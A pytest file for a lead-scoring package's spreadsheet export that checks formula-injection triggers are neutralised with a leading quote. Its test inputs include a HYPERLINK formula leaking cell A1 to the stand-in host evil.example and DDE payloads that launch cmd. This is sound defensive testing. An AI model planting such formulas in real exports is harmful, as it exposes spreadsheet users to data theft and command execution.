"""Spreadsheet cells: a value a salesperson's spreadsheet would run as a formula is written as text."""

import pandas as pd
import pytest

from leadscore_assets.lib.scoring.spreadsheet import neutralise_cell, neutralise_frame


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=2+2",
    "  =1+1",  # a spreadsheet import that trims leading spaces would make it live
    "\n@SUM(A1)",
])
def test_every_owasp_trigger_gets_a_leading_quote(value):
    assert neutralise_cell(value) == "'" + value


def test_a_negative_number_written_as_text_is_neutralised_too():
    assert neutralise_cell("-5") == "'-5"  # OWASP's rule: in a text column, a leading '-' is a trigger


@pytest.mark.parametrize("value", ["Acme Ltd", "ceo", "Paris, France", "", "a=b", "x-1", "O'Brien & Co"])
def test_plain_values_are_untouched(value):
    assert neutralise_cell(value) == value


def test_only_text_columns_change_numbers_stay_numbers():
    frame = pd.DataFrame({"company_name": ["=1+1", "Acme", None], "probability": [0.9, -0.25, 0.1],
                          "decile": [1, -2, 3], "contact": [True, False, True]})
    out = neutralise_frame(frame)
    assert out.company_name.tolist()[:2] == ["'=1+1", "Acme"] and pd.isna(out.company_name.iloc[2])
    assert out.probability.tolist() == [0.9, -0.25, 0.1] and out.decile.tolist() == [1, -2, 3]
    assert out.dtypes.to_dict() == frame.dtypes.to_dict()
    assert frame.company_name.iloc[0] == "=1+1"  # the caller's frame is not changed


def test_batches_write_the_bytes_of_the_whole_frame_datetimes_included():
    import io

    from leadscore_assets.lib.scoring.spreadsheet import (
        spreadsheet_csv, write_spreadsheet_csv, write_spreadsheet_csv_batches)

    whole = pd.DataFrame({
        "company_name": ["=1+1", "Acme", None, "-5", "@x", "ok"],
        "seen": pd.to_datetime(["2024-01-01", "2024-01-02", None, "2024-01-03", "2024-01-04 10:00:00.5", None], format="mixed"),
        "day": pd.to_datetime(["2024-01-01", "2024-01-02", None, "2024-01-03", "2024-01-04", None]),
        "size": pd.array([1, None, 3, -4, 5, 6], dtype="Int64"), "p": [0.5, -0.25, float("nan"), 1.0, 2.0, 3.0]})
    whole_out = io.StringIO(newline="")
    write_spreadsheet_csv(whole, whole_out)
    assert whole_out.getvalue() == spreadsheet_csv(whole)
    # the batch without the half second would be written as dates alone: the witness keeps the whole's format
    witness = whole.loc[[4], ["seen", "day"]]
    batches = [whole.iloc[:3], whole.iloc[3:4], whole.iloc[4:]]
    batches_out = io.StringIO(newline="")
    write_spreadsheet_csv_batches(batches, batches_out, timestamps=witness)
    assert batches_out.getvalue().encode() == whole_out.getvalue().encode()
    assert '"\'=1+1"' in whole_out.getvalue()  # neutralised and quoted


def test_a_column_is_neutralised_as_cell_by_cell_would_every_whitespace_and_trigger():
    """The column route (Arrow) quotes exactly the cells `neutralise_cell` quotes: every trigger
    behind every character Python strips as whitespace (\\x1c-\\x1f and \\x85 included, which Unicode
    does not call whitespace), missing values, empty text, surrogates, and mixed columns."""
    import numpy as np

    from leadscore_assets.lib.scoring.spreadsheet import FORMULA_TRIGGERS, neutralise_column
    from leadscore_assets.lib.validation.rules import stripped_characters

    cells = [None, np.nan, "", "Acme", "a=b", "é=1", "=1", "'=1", "\u200b=1", "\ud800=1"]
    cells += [space + trigger + "cmd" for space in stripped_characters() for trigger in FORMULA_TRIGGERS]
    cells += [space * 2 + "plain" for space in stripped_characters()]
    for column in (pd.Series(cells, dtype=object), pd.Series(cells[:9] + cells[10:], dtype="string"),
                   pd.Series(["=1", 5, None, b"=x", "ok"], dtype=object)):
        expected = column.map(neutralise_cell, na_action="ignore")
        pd.testing.assert_series_equal(neutralise_column(column), expected)
    assert neutralise_column(pd.Series(["\x1c=1"])).iloc[0] == "'\x1c=1"
